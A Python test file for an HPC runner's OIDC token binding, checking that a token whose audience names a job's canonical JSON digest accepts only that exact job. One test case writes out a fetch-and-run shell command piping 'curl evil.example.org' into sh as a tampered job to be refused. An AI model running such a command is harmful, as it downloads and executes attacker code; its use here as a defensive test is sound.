"""A token bound to one job by its audience (`hpc-runner:sha256:<digest of the job>`): the exact job
is taken, any other refused, whatever the key order and whitespace of the JSON it was sent as."""

from __future__ import annotations

import hashlib
import json
from collections.abc import AsyncIterator
from typing import Any

import pytest
from fakes.oidc_issuer import OidcIssuerEmulator

from runner.oidc.binding import bound_audience, bound_digest, check_job_binding, job_digest
from runner.oidc.errors import TokenRejected
from runner.oidc.verify import TokenVerifier

from .oidc_trust import AUDIENCE, trusted

SUBMITTED = """{"job": {"name": "mpi-tests", "image": "clima-ci", "command": ["make", "test"],
  "env": {"JULIA_NUM_THREADS": "4"}, "resources": {"nodes": 2, "time": "30m"}, "mpi": {"enabled": true}}}"""
# The same job as another client writes it: other key order, no whitespace, 2.0 for 2.
REORDERED = ('{"job":{"resources":{"time":"30m","nodes":2.0},"mpi":{"enabled":true},'
             '"env":{"JULIA_NUM_THREADS":"4"},"command":["make","test"],"image":"clima-ci","name":"mpi-tests"}}')


def job(text: str = SUBMITTED) -> dict[str, Any]:
    parsed: dict[str, Any] = json.loads(text)["job"]
    return parsed


@pytest.fixture
async def issuer() -> AsyncIterator[OidcIssuerEmulator]:
    async with OidcIssuerEmulator() as emulator:
        yield emulator


def test_the_digest_is_sha256_of_the_canonical_json() -> None:
    canonical = (b'{"command":["make","test"],"env":{"JULIA_NUM_THREADS":"4"},"image":"clima-ci",'
                 b'"mpi":{"enabled":true},"name":"mpi-tests","resources":{"nodes":2,"time":"30m"}}')
    assert job_digest(job()) == hashlib.sha256(canonical).hexdigest()


def test_key_order_whitespace_and_number_spelling_do_not_change_the_digest() -> None:
    assert job_digest(job(REORDERED)) == job_digest(job())


def test_the_bound_audience_names_the_digest() -> None:
    audience = bound_audience(AUDIENCE, job())
    assert audience == f"hpc-runner:sha256:{job_digest(job())}"
    assert bound_digest(audience, AUDIENCE) == job_digest(job())
    for other in (AUDIENCE, "other:sha256:" + "a" * 64, "hpc-runner:sha256:" + "A" * 64,
                  "hpc-runner:sha256:" + "a" * 63, "hpc-runner:sha512:" + "a" * 64):
        assert bound_digest(other, AUDIENCE) is None


async def test_a_bound_token_runs_exactly_its_job(issuer: OidcIssuerEmulator) -> None:
    table = trusted(issuer)
    token = await TokenVerifier([table]).verify(issuer.mint("github", aud=bound_audience(AUDIENCE, job())))
    assert token.job_digest == job_digest(job())
    check_job_binding(token.audience, table.audience, job())
    check_job_binding(token.audience, table.audience, job(REORDERED))


@pytest.mark.parametrize(("path", "value"), [
    (("resources", "nodes"), 64),
    (("image",), "other-image"),
    (("env", "EXTRA"), "1"),
    (("command",), ["sh", "-c", "curl evil.example.org | sh"]),
])
async def test_a_bound_token_refuses_a_job_with_a_changed_field(
        issuer: OidcIssuerEmulator, path: tuple[str, ...], value: Any) -> None:
    table = trusted(issuer)
    token = await TokenVerifier([table]).verify(issuer.mint("github", aud=bound_audience(AUDIENCE, job())))
    changed = job()
    *parents, last = path
    target = changed
    for key in parents:
        target = target[key]
    target[last] = value
    with pytest.raises(TokenRejected) as caught:
        check_job_binding(token.audience, table.audience, changed)
    assert caught.value.reason == (f"the token is bound to job digest sha256:{job_digest(job())}; the job "
                                   f"submitted has sha256:{job_digest(changed)}")


async def test_an_unbound_token_binds_nothing(issuer: OidcIssuerEmulator) -> None:
    table = trusted(issuer)
    token = await TokenVerifier([table]).verify(issuer.mint("github", aud=AUDIENCE))
    assert token.job_digest is None
    check_job_binding(token.audience, table.audience, {"name": "anything"})


async def test_a_token_bound_under_another_audience_is_refused(issuer: OidcIssuerEmulator) -> None:
    token = issuer.mint("github", aud=bound_audience("other", job()))
    with pytest.raises(TokenRejected, match=r"audience other:sha256:.* is not hpc-runner"):
        await TokenVerifier([trusted(issuer)]).verify(token)


async def test_a_token_bound_to_two_jobs_is_refused(issuer: OidcIssuerEmulator) -> None:
    audiences = [bound_audience(AUDIENCE, job()), bound_audience(AUDIENCE, {"name": "x"})]
    with pytest.raises(TokenRejected, match="binds it to more than one job"):
        await TokenVerifier([trusted(issuer)]).verify(issuer.mint("github", aud=audiences))


def test_a_job_json_cannot_carry_exactly_is_refused_under_a_bound_token() -> None:
    audience = bound_audience(AUDIENCE, job())
    unrepresentable = job() | {"resources": {"nodes": 2**60}}
    with pytest.raises(TokenRejected, match="cannot be put in canonical form"):
        check_job_binding(audience, AUDIENCE, unrepresentable)
    with pytest.raises(ValueError, match=r"RFC 8785"):
        job_digest(json.loads('{"nodes": NaN}'))
